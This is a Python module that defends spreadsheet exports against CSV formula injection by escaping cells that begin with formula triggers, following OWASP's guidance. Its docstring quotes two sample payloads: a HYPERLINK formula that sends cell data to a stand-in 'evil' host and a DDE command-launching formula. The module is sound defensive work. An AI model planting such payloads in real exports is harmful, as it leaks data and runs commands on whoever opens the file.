"""CSV a spreadsheet will not run: formula (CSV) injection neutralised (OWASP's guidance).

A cell that starts with = + - @ (or a tab / carriage return, which some spreadsheets skip
before such a sign) is read as a formula by Excel, LibreOffice and Google Sheets, so a
project title like `=HYPERLINK("http://evil/?"&A1)` would run when an exported report is
opened. Such a cell gets a leading apostrophe, which spreadsheets show as text. A
spreadsheet that splits a line on a semicolon, tab or pipe instead of a comma would start
a new cell inside `x;=cmd|' /C calc'!A0`: a trigger after such a separator gets the same
apostrophe. Plain numbers (a negative amount such as -1250.00) are left alone: they are
data. Every cell is written quoted, so no separator inside one is ever read as a split.

    writer = csv_writer(out)
    writer.writerow(safe_cell(v) for v in row)
"""

from __future__ import annotations

import csv
import re
from typing import Any, TextIO

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?[0-9][0-9,]*(\.[0-9]+)?")
# A separator some spreadsheet splits on, then (after spaces or quotes) a formula trigger.
_TRIGGER_AFTER_SEPARATOR = re.compile(r"([,;\t|\r\n][\s\"']*)([=+\-@])")


def safe_cell(text: str) -> str:
    """`text` as a cell no spreadsheet takes for a formula, wherever it splits the line."""
    if _NUMBER.fullmatch(text):
        return text
    # (From the second character: a leading tab or line break is the case below.)
    text = text[:1] + _TRIGGER_AFTER_SEPARATOR.sub(r"\1'\2", text[1:])
    if text.startswith(_FORMULA_START):
        return "'" + text
    return text


def csv_writer(out: TextIO) -> Any:
    """A CSV writer that quotes every cell (numbers too: spreadsheets still read them)."""
    return csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
